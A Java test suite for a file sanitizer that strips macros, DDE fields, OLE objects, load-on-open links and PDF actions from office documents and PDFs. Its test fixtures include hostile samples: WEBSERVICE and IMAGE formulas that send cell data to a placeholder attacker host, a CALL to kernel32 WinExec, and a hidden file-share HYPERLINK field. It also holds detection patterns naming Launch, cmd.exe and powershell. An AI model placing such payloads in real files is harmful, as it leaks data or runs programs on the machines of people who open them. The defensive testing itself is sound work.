package org.sandyq.sanitizer;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;
import static org.sandyq.sanitizer.ActiveFixtures.EVIL;
import static org.sandyq.sanitizer.ActiveFixtures.WEB_LINK;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sandyq.sanitizer.format.BadFileException;
import org.sandyq.sanitizer.format.Formats;
import org.sandyq.sanitizer.format.Input;
import org.sandyq.sanitizer.format.Job;
import org.sandyq.sanitizer.format.Output;
import org.sandyq.sanitizer.format.Verify;

/**
 * Active content: what would load, run or send something when a lawyer opens a cleaned file is
 * gone, checked by readers the sanitizer does not use ({@code unzip} plus a scan of every member,
 * {@code qpdf}'s QDF form); the evidence text and pictures stay; clickable web links stay and are
 * listed; and the fail-closed check refuses a file that still carries any of it.
 */
class ActiveContentTest {
  private final Sanitizer sanitizer = new Sanitizer();

  private record Result(FileReport report, Path path, byte[] bytes) {}

  private Result clean(String name, byte[] bytes, Path dir) throws Exception {
    Path in = Files.write(dir.resolve(name), bytes);
    Path out = Files.createDirectories(dir.resolve("out-" + name));
    FileReport r = sanitizer.clean(in, out, 1);
    Path p = out.resolve(r.outputName());
    // the same cleaning twice finds nothing more: the fail-closed check passed, and it is stable
    Path again = Files.createDirectories(dir.resolve("again-" + name));
    assertEquals(List.of("the original file name"), sanitizer.clean(p, again, 1).removed());
    return new Result(r, p, Files.readAllBytes(p));
  }

  private static void assumeUnzip() {
    assumeTrue(Readers.has("unzip", "-v"), "unzip is not installed");
  }

  private static String all(Map<String, String> members) {
    return String.join("\n", members.values());
  }

  private static void assertRemoved(FileReport r, String... classes) {
    for (String c : classes) {
      assertTrue(r.removed().stream().anyMatch(x -> x.contains(c)), "the report should say it removed " + c + ": " + r.removed());
    }
  }

  private static void assertListedLink(FileReport r) {
    assertTrue(r.kept().contains("clickable link kept (opens only when clicked): " + WEB_LINK), r.kept().toString());
  }

  /** The original, checked as if it were a cleaned copy, must be refused: the check knows every class. */
  static void assertCheckRefuses(String type, byte[] original, String... mentions) {
    BadFileException e = assertThrows(BadFileException.class, () -> Verify.check(Formats.forType(type),
        Input.of(original), new Output.InMemory(), new Job(Limits.DEFAULT)));
    for (String m : mentions) {
      assertTrue(e.getMessage().contains(m), e.getMessage());
    }
  }

  private static final Pattern RUNS_OR_LOADS = Pattern.compile(
      "INCLUDEPICTURE|INCLUDETEXT|DDEAUTO|vbaProject|activeX|customUI|oleObject|macrosheet|externalLink"
          + "|connections|OLEObject|onLoad=", Pattern.CASE_INSENSITIVE);

  /**
   * Found by review: readers append displayed text (w:t) inside a field's instruction to the
   * instruction, so "HYPERLINK " in instrText and the address in w:t linked to a share while the
   * check saw a hyperlink without an address. Word never writes it so: refused as hostile.
   */
  @Test
  void aFieldInstructionHiddenInDisplayedTextIsRefused() {
    String doc = ActiveFixtures.XML + "<w:document xmlns:w=\"" + ActiveFixtures.W + "\"><w:body><w:p>"
        + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">HYPERLINK </w:instrText></w:r>"
        + "<w:r><w:t>\"file://" + ActiveFixtures.EVIL + "/share/x.docx\"</w:t></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>wages</w:t></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
    byte[] docx = Corpus.zip(false, new String[][] {
        {"[Content_Types].xml", ActiveFixtures.types("word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", "word/document.xml", false))},
        {"word/document.xml", doc}});
    RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(docx, "hidden.docx", 1));
    assertEquals(RefusedFileException.Kind.HOSTILE, e.kind(), e.getMessage());
    assertTrue(e.reason().contains("instruction is hidden in displayed text"), e.reason());
  }

  @Test
  void wordFieldsLinksMacrosAndObjectsAreRemoved(@TempDir Path dir) throws Exception {
    assumeUnzip();
    byte[] original = ActiveFixtures.docx();
    Result c = clean("letter.docx", original, dir);
    Map<String, String> m = Readers.unzip(c.path(), dir);
    String everything = all(m);
    assertFalse(everything.contains(EVIL), "an outside address survived: " + everything);
    assertFalse(RUNS_OR_LOADS.matcher(m.get("word/document.xml")).find(), m.get("word/document.xml"));
    assertFalse(Pattern.compile("<w:instrText[^>]*>[^<]+<").matcher(m.get("word/document.xml")).find(),
        "the split field instructions are emptied");
    for (String name : m.keySet()) {
      assertFalse(name.matches("(?i).*(vba|activeX|customUI|oleObject|data\\.bin|\\.exe|webextension).*"), "member left: " + name);
      if (name.endsWith(".rels")) {
        // the only outside target left is the clickable web link
        assertEquals(m.get(name).contains("TargetMode=\"External\""), m.get(name).contains(WEB_LINK), name + ": " + m.get(name));
      }
    }
    String doc = m.get("word/document.xml");
    for (String text : List.of(ActiveFixtures.DOCX_TEXT, "EVIDENCE-ACTIVE-field-result", "EVIDENCE-ACTIVE-dde-result",
        "EVIDENCE-ACTIVE-simple-result", "EVIDENCE-ACTIVE-weblink", "EVIDENCE-ACTIVE-filelink")) {
      assertTrue(doc.contains(text), text + " lost: " + doc);
    }
    assertTrue(doc.contains("w:instr=\" PAGE \""), "a safe field stays");
    assertTrue(doc.contains("r:embed=\"rIdPic\"") && m.containsKey("word/media/image1.png"), "the embedded picture stays");
    assertTrue(doc.contains("v:imagedata"), "the picture shown in place of the removed OLE object stays");
    // the embedded Word document is kept, cleaned like the outer one
    String inner = "word/embeddings/Microsoft_Word_Document.docx";
    assertTrue(m.containsKey(inner));
    assertEquals(java.util.Set.of(), Views.markers(Files.readAllBytes(dir.resolve("unzipped-" + c.path().getFileName()).resolve(inner))));
    assertEquals(java.util.Set.of(), Views.markers(c.bytes()));
    assertRemoved(c.report(), "DDE fields", "INCLUDEPICTURE", "macros (VBA project)", "ActiveX", "embedded OLE objects", "Office add-ins",
        "embedded files and packages", "linked pictures", "OLE links", "links to local files", "template file",
        "ribbon", "inside embedded documents");
    assertListedLink(c.report());
    assertCheckRefuses(Formats.DOCX, original, "after cleaning, a second check still found");
  }

  @Test
  void macroEnabledWorkbookComesOutPlainWithoutMacroSheetsOrLinks(@TempDir Path dir) throws Exception {
    assumeUnzip();
    byte[] original = ActiveFixtures.xlsm();
    assertEquals("application/vnd.ms-excel.sheet.macroenabled.12", sanitizer.detect(original));
    Result c = clean("wages.xlsm", original, dir);
    assertEquals(Formats.XLSX, sanitizer.detect(c.bytes()), "the cleaned copy is a plain workbook");
    Map<String, String> m = Readers.unzip(c.path(), dir);
    String everything = all(m);
    assertFalse(everything.contains(EVIL), everything);
    m.forEach((name, text) -> assertTrue(name.equals("[Content_Types].xml") || !RUNS_OR_LOADS.matcher(text).find(), name + ": " + text));
    assertFalse(everything.contains("SQMK"), "the user who reserved the workbook");
    assertTrue(m.get("xl/worksheets/sheet1.xml").contains(ActiveFixtures.XLSX_TEXT));
    assertTrue(m.get("xl/workbook.xml").contains("name=\"Wages\"") && !m.get("xl/workbook.xml").contains("Macro1"));
    assertRemoved(c.report(), "Excel 4 macro sheets", "links to other workbooks", "data connections", "macros (VBA project)",
        "macro-enabled document type");
    assertCheckRefuses("application/vnd.ms-excel.sheet.macroenabled.12", original, "Excel 4 macro sheets");
  }

  @Test
  void slidePictureLinkedFromAShareAndCommentAuthorsAreRemoved(@TempDir Path dir) throws Exception {
    assumeUnzip();
    Result c = clean("slides.pptx", ActiveFixtures.pptx(), dir);
    Map<String, String> m = Readers.unzip(c.path(), dir);
    String everything = all(m);
    assertFalse(everything.contains(EVIL) || everything.contains("SQMK") || everything.contains("r:link"), everything);
    assertTrue(m.get("ppt/slides/slide1.xml").contains(ActiveFixtures.PPTX_TEXT));
    assertRemoved(c.report(), "linked pictures", "list of people who edited or commented");
  }

  /**
   * Found by review: an outside address kept because its relationship says "hyperlink", though a
   * picture (DrawingML's {@code r:link}, VML's {@code o:relid}) or a hover link uses it, and names in
   * parts found only by their relationship's type. Each goes, the relationship with its uses; the
   * web link clicked from text stays and is listed.
   */
  @Test
  void outsideAddressesStayOnlyAsClickedLinksAndNamesGoWhereverTheyAre(@TempDir Path dir) throws Exception {
    assumeUnzip();
    byte[] docx = ActiveFixtures.docxWithDisguisedRelationships();
    Result word = clean("letter.docx", docx, dir);
    Map<String, String> m = Readers.unzip(word.path(), dir);
    String everything = all(m);
    assertFalse(everything.contains(EVIL) || everything.contains("SQMK"), everything);
    assertFalse(m.get("word/document.xml").contains("r:link") || m.get("word/header1.xml").contains("o:relid"),
        m.get("word/document.xml") + m.get("word/header1.xml"));
    assertTrue(m.get("word/document.xml").contains(ActiveFixtures.DOCX_TEXT) && m.get("word/document.xml").contains("r:id=\"rIdWeb\"")
        && m.get("word/document.xml").contains("r:embed=\"rIdPic\""), "text, the clicked link and the embedded picture stay");
    assertFalse(m.containsKey("word/persons.xml") || m.containsKey("data/item1.xml"), m.keySet().toString());
    assertRemoved(word.report(), "outside addresses that load when the document is opened", "list of people", "custom XML");
    assertListedLink(word.report());
    assertFalse(word.report().kept().toString().contains(EVIL), "no link is said to be kept that is gone: " + word.report().kept());
    assertCheckRefuses(Formats.DOCX, docx, "outside addresses that load");
    // the part's relationships named with other capitals, as Word reads them too (found by review)
    Result cased = clean("cased.docx", ActiveFixtures.docxWithDisguisedRelationships("word/_rels/Document.xml.rels"), dir);
    Map<String, String> mc = Readers.unzip(cased.path(), dir);
    assertFalse(all(mc).contains(EVIL), all(mc));

    byte[] pptx = ActiveFixtures.pptxWithHoverAndDisguisedLink();
    Result slides = clean("slides.pptx", pptx, dir);
    Map<String, String> s = Readers.unzip(slides.path(), dir);
    assertFalse(all(s).contains(EVIL), all(s));
    String slide = s.get("ppt/slides/slide1.xml");
    assertFalse(slide.contains("hlinkHover") || slide.contains("hlinkMouseOver") || slide.contains("r:link"), slide);
    assertTrue(slide.contains(ActiveFixtures.PPTX_TEXT) && slide.contains("<a:hlinkClick r:id=\"rIdWeb\""), slide);
    assertRemoved(slides.report(), "pointer passes over a shape", "outside addresses that load");
    assertListedLink(slides.report());
    assertCheckRefuses("application/vnd.openxmlformats-officedocument.presentationml.presentation", pptx, "pointer passes over");

    byte[] xlsx = ActiveFixtures.xlsxWithCommentsElsewhere();
    Result book = clean("wages.xlsx", xlsx, dir);
    Map<String, String> b = Readers.unzip(book.path(), dir);
    assertFalse(all(b).contains("SQMK") || b.containsKey("xl/comments/comment1.xml"), b.keySet().toString());
    assertTrue(b.get("xl/worksheets/sheet1.xml").contains(ActiveFixtures.XLSX_TEXT));
    assertRemoved(book.report(), "comments (with author names");
    assertCheckRefuses(Formats.XLSX, xlsx, "comments");
  }

  /**
   * Found by review: spreadsheet formulas that fetch from the web (WEBSERVICE, IMAGE) or call a
   * program or server (RTD, CALL, REGISTER) when the workbook is recalculated, which Excel does on
   * opening when {@code fullCalcOnLoad} asks: refused (the formula is the content), with the way
   * out to save a copy with values only; in a cell, a defined name or an OpenDocument cell. A
   * formula that merely has such a word in a longer name is not.
   */
  @Test
  void formulasThatFetchOrCallOutsideAreRefused() throws Exception {
    for (String[] c : new String[][] {
        {"<f>_xlfn.WEBSERVICE(\"http://" + EVIL + "/w?a=\"&amp;A1)</f><v>1</v>", ""},
        {"<f t=\"shared\" ref=\"B1:B3\" si=\"0\">_xlfn.IMAGE(\"https://" + EVIL + "/p.png\")</f><v>0</v>", ""},
        {"<f>RTD(\"x.server\",\"" + EVIL + "\",\"t\")</f><v>0</v>", ""},
        {"<f>SUM(1,2)</f><v>3</v>", "<definedNames><definedName name=\"Beacon\">CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames>"},
        {"<f>SUM(1,2)</f><v>3</v>", "", "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">"
            + "<formula>LEN(_xlfn.WEBSERVICE(\"http://" + EVIL + "/cf\"))&gt;0</formula></cfRule></conditionalFormatting>"},
        {"<f>SUM(1,2)</f><v>3</v>", "", "<dataValidations count=\"1\"><dataValidation type=\"custom\" sqref=\"A1\">"
            + "<formula1>ISTEXT(webservice (\"http://" + EVIL + "/dv\"))</formula1></dataValidation></dataValidations>"}}) {
      RefusedFileException e = assertThrows(RefusedFileException.class,
          () -> sanitizer.clean(xlsx(c[0], c[1], c.length > 2 ? c[2] : ""), "wages.xlsx", 1), c[0]);
      assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
      assertTrue(e.reason().contains("WEBSERVICE, IMAGE, RTD, CALL, REGISTER"), e.reason());
      assertEquals(WayOut.SAVE_AS_SPREADSHEET, e.wayOut());
    }
    Sanitizer.Cleaned plain = sanitizer.clean(xlsx("<f>MYIMAGE(1)+SUM(A2)</f><v>3</v>",
        "<definedNames><definedName name=\"Total\">Wages!$A$1</definedName></definedNames>", ""), "wages.xlsx", 1);
    assertEquals(Formats.XLSX, plain.report().detectedType());
    String ns = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
        + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"";
    byte[] ods = Corpus.zip(true, new String[][] {
        {"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
        {"content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\">"
            + "<office:body><office:spreadsheet><table:table table:name=\"Wages\"><table:table-row><table:table-cell"
            + " table:formula=\"of:=WEBSERVICE(&quot;http://" + EVIL + "/o&quot;)\" office:value-type=\"string\"><text:p>1</text:p>"
            + "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"},
        {"META-INF/manifest.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest"
            + " xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
            + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/>"
            + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>"}});
    RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(ods, "wages.ods", 1));
    assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
    // the same call in a validation's condition
    byte[] validated = Corpus.zip(true, new String[][] {
        {"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
        {"content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\">"
            + "<office:body><office:spreadsheet><table:content-validations><table:content-validation table:name=\"v\""
            + " table:condition=\"of:is-true-formula(LEN(COM.MICROSOFT.WEBSERVICE(&quot;http://" + EVIL + "/v&quot;)))\"/>"
            + "</table:content-validations><table:table table:name=\"Wages\"><table:table-row><table:table-cell"
            + " table:content-validation-name=\"v\"><text:p>1</text:p></table:table-cell></table:table-row></table:table>"
            + "</office:spreadsheet></office:body></office:document-content>"}});
    RefusedFileException v = assertThrows(RefusedFileException.class, () -> sanitizer.clean(validated, "wages.ods", 1));
    assertTrue(v.reason().contains("WEBSERVICE"), v.reason());
  }

  /**
   * Found by review: a picture link in ISO 29500 Strict's relationships namespace went unseen by
   * checks written for the transitional one, and LibreOffice fetched it. A Strict document, by its
   * namespaces or by its relationship types, is refused.
   */
  @Test
  void strictOpenXmlIsRefused() throws Exception {
    String strictRels = "http://purl.oclc.org/ooxml/officeDocument/relationships";
    String doc = ActiveFixtures.XML + "<w:document xmlns:w=\"" + ActiveFixtures.W + "\" xmlns:rs=\"" + strictRels + "\""
        + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body><w:p><w:r><w:drawing>"
        + "<a:blip rs:link=\"rId20\"/></w:drawing></w:r></w:p></w:body></w:document>";
    String od = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    byte[] namespaced = Corpus.zip(false, new String[][] {
        {"[Content_Types].xml", ActiveFixtures.types("word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/officeDocument", "word/document.xml", false))},
        {"word/document.xml", doc},
        {"word/_rels/document.xml.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId20", od + "/hyperlink",
            "http://" + EVIL + "/strict.png", true))}});
    byte[] typed = Corpus.zip(false, new String[][] {
        {"[Content_Types].xml", ActiveFixtures.types("word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", strictRels + "/officeDocument", "word/document.xml", false))},
        {"word/document.xml", ActiveFixtures.XML + "<w:document xmlns:w=\"" + ActiveFixtures.W + "\"><w:body><w:p><w:r><w:t>x</w:t>"
            + "</w:r></w:p></w:body></w:document>"}});
    for (byte[] docx : List.of(namespaced, typed)) {
      RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(docx, "strict.docx", 1));
      assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
      assertTrue(e.reason().contains("Strict Open XML"), e.reason());
    }
  }

  /**
   * Found by the third real-file sweep (Tika's and POI's test documents): Office writes elements
   * with {@code xmlns=""} (no namespace: a body, a theme's hidden fill, an ink fallback), and the
   * Strict check above read that declaration's missing namespace: a NullPointerException, so three
   * real DOCX and PPTX files failed rather than being cleaned.
   */
  @Test
  void anElementInNoNamespaceIsCleaned() throws Exception {
    String od = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    byte[] docx = Corpus.zip(false, new String[][] {
        {"[Content_Types].xml", ActiveFixtures.types("word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/officeDocument", "word/document.xml", false))},
        {"word/document.xml", ActiveFixtures.XML + "<w:document xmlns:w=\"" + ActiveFixtures.W + "\"><w:body xmlns=\"\">"
            + "<w:p><w:r><w:t>the contract</w:t></w:r></w:p></w:body></w:document>"}});
    Sanitizer.Cleaned c = sanitizer.clean(docx, "plain.docx", 1);
    assertTrue(Views.member(c.bytes(), "word/document.xml").contains("the contract"));
  }

  /**
   * Found by review: LibreOffice writes an empty {@code office:scripts} in every document, and the
   * report said macros bound to events were removed. An element that held nothing is not reported.
   */
  @Test
  void anEmptyElementIsNotReportedAsRemoved() throws Exception {
    String content = Views.member(Corpus.odt(), "content.xml");
    int body = content.indexOf("<office:body>");
    assertTrue(body > 0, content);
    byte[] odt = Views.rewritten(Corpus.odt(), Map.of("content.xml",
        (content.substring(0, body) + "<office:scripts/>" + content.substring(body)).getBytes(java.nio.charset.StandardCharsets.UTF_8)));
    Sanitizer.Cleaned c = sanitizer.clean(odt, "letter.odt", 1);
    assertFalse(c.report().removed().stream().anyMatch(r -> r.startsWith("macros bound to events")), c.report().removed().toString());
    assertFalse(Views.member(c.bytes(), "content.xml").contains("office:scripts"));
  }

  /** A one-sheet workbook whose first cell holds {@code cell} (a formula and its value), with {@code names} in the workbook. */
  private static byte[] xlsx(String cell, String names, String afterCells) {
    String s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    String od = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    return Corpus.zip(false, new String[][] {
        {"[Content_Types].xml", ActiveFixtures.types("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")},
        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/officeDocument", "xl/workbook.xml", false))},
        {"xl/workbook.xml", ActiveFixtures.XML + "<workbook xmlns=\"" + s + "\" xmlns:r=\"" + od + "\"><sheets><sheet name=\"Wages\""
            + " sheetId=\"1\" r:id=\"rId1\"/></sheets>" + names + "<calcPr fullCalcOnLoad=\"1\"/></workbook>"},
        {"xl/_rels/workbook.xml.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/worksheet", "worksheets/sheet1.xml", false))},
        {"xl/worksheets/sheet1.xml", ActiveFixtures.XML + "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\"><c r=\"A1\">" + cell
            + "</c></row></sheetData>" + afterCells + "</worksheet>"}});
  }

  @Test
  void openDocumentLinksEventsMacrosDdeAppletsAndOleAreRemoved(@TempDir Path dir) throws Exception {
    assumeUnzip();
    byte[] original = ActiveFixtures.odt();
    Result c = clean("letter.odt", original, dir);
    Map<String, String> m = Readers.unzip(c.path(), dir);
    String everything = all(m);
    assertFalse(everything.contains(EVIL), everything);
    assertFalse(everything.contains("SQMK"), "names in the embedded object's properties or comments: " + everything);
    String content = m.get("content.xml");
    for (String gone : List.of("event-listener", "vnd.sun.star.script", "dde-connection", "applet", "object-ole", "section-source xlink")) {
      assertFalse(content.contains(gone), gone + " left: " + content);
    }
    assertFalse(m.containsKey("Object 1") || m.keySet().stream().anyMatch(n -> n.startsWith("Basic/")), m.keySet().toString());
    assertFalse(m.get("META-INF/manifest.xml").contains("Basic/") || m.get("META-INF/manifest.xml").contains("\"Object 1\""));
    for (String text : List.of(ActiveFixtures.ODT_TEXT, "EVIDENCE-ACTIVE-weblink", "EVIDENCE-ACTIVE-macrolink",
        "EVIDENCE-ACTIVE-comment-anchor", "Pictures/photo.png", "ObjectReplacements/Object 1", "./Object 2")) {
      assertTrue(content.contains(text), text + " lost: " + content);
    }
    assertTrue(content.contains("xlink:href=\"" + WEB_LINK + "\""), "the web link stays clickable");
    assertTrue(m.containsKey("Object 2/content.xml") && m.containsKey("Pictures/photo.png"));
    assertRemoved(c.report(), "macros bound to events", "pictures, objects, sections", "links to local files",
        "DDE links", "Java applets", "embedded OLE objects", "macros", "document properties");
    assertListedLink(c.report());
    assertCheckRefuses("application/vnd.oasis.opendocument.text", original, "macros bound to events");
  }

  @Test
  void pdfActionsScriptsXfaAndProgramsAreRemovedAndWebLinksListed(@TempDir Path dir) throws Exception {
    assumeTrue(Readers.has("qpdf", "--version"), "qpdf is not installed");
    byte[] original = ActiveFixtures.pdf();
    String before = Readers.qdf(Files.write(dir.resolve("original.pdf"), original), dir);
    for (String s : ActiveFixtures.pdfNeverAfterCleaning()) {
      assertTrue(before.contains(s), "the fixture should carry " + s);
    }
    Result c = clean("wages.pdf", original, dir);
    String qdf = Readers.qdf(c.path(), dir);
    for (String s : ActiveFixtures.pdfNeverAfterCleaning()) {
      assertFalse(qdf.contains(s), s + " survived:\n" + qdf);
    }
    assertTrue(qdf.contains("(" + ActiveFixtures.PDF_TEXT + ") Tj"), "the page text stays");
    assertTrue(qdf.contains("/URI (" + WEB_LINK + ")"), "the clickable web link stays");
    assertEquals(5, Pattern.compile("/Subtype /Link").matcher(qdf).results().count(), "the link annotations stay, disarmed");
    assertRemoved(c.report(), "the action run when the PDF is opened (URI", "automatic actions", "GoToR", "Launch",
        "links to local files", "XFA form", "JavaScript", "embedded files", "rich media annotations", "3D annotations",
        "screen annotations", "movie and sound annotations");
    assertListedLink(c.report());
    assertCheckRefuses("application/pdf", original, "after cleaning, a second check still found");
  }

  @Test
  void pdfActionsBehindAClickGoWhateverTheyLookLikeAndWhereverTheyAre(@TempDir Path dir) throws Exception {
    assumeTrue(Readers.has("qpdf", "--version"), "qpdf is not installed");
    byte[] original = ActiveFixtures.pdfActionsBehindClicks();
    String before = Readers.qdf(Files.write(dir.resolve("original.pdf"), original), dir);
    List<String> never = List.of(EVIL, "/Launch", "/Rendition", "/GoToR", "/Ref", "cmd.exe", "calc", "powershell", "/PA");
    for (String s : never) {
      assertTrue(before.contains(s), "the fixture should carry " + s);
    }
    Result c = clean("links.pdf", original, dir);
    String qdf = Readers.qdf(c.path(), dir);
    for (String s : never) {
      assertFalse(qdf.contains(s), s + " survived:\n" + qdf);
    }
    assertEquals(1, Pattern.compile("/S /Thread").matcher(qdf).results().count(), "the thread inside the document stays:\n" + qdf);
    assertTrue(qdf.contains("/Type /Bead") && qdf.contains("/Subtype /Form") && qdf.contains("(EVIDENCE outline)"), qdf);
    assertTrue(qdf.contains("(" + ActiveFixtures.PDF_TEXT + ") Tj"), "the page text stays");
    assertTrue(qdf.contains("/URI (" + WEB_LINK + ")"), "the clickable web link stays");
    assertEquals(6, Pattern.compile("/Subtype /Link").matcher(qdf).results().count(), "the link annotations stay, disarmed");
    assertRemoved(c.report(), "(Launch)", "(Rendition)", "(GoToR)", "(Thread)", "reference XObjects", "links to local files");
    assertListedLink(c.report());
    assertCheckRefuses("application/pdf", original, "after cleaning, a second check still found", "(Thread)",
        "reference XObjects");
  }

  @Test
  void cleanedInMemoryLikeOnDisk(@TempDir Path dir) throws Exception {
    for (var f : Map.of("a.docx", ActiveFixtures.docx(), "b.odt", ActiveFixtures.odt(),
        "c.pdf", ActiveFixtures.pdf(), "d.xlsm", ActiveFixtures.xlsm()).entrySet()) {
      Result c = clean(f.getKey(), f.getValue(), dir);
      Sanitizer.Cleaned m = sanitizer.clean(f.getValue(), f.getKey(), 1);
      assertArrayEquals(c.bytes(), m.bytes(), f.getKey());
      assertEquals(c.report(), m.report());
    }
  }
}
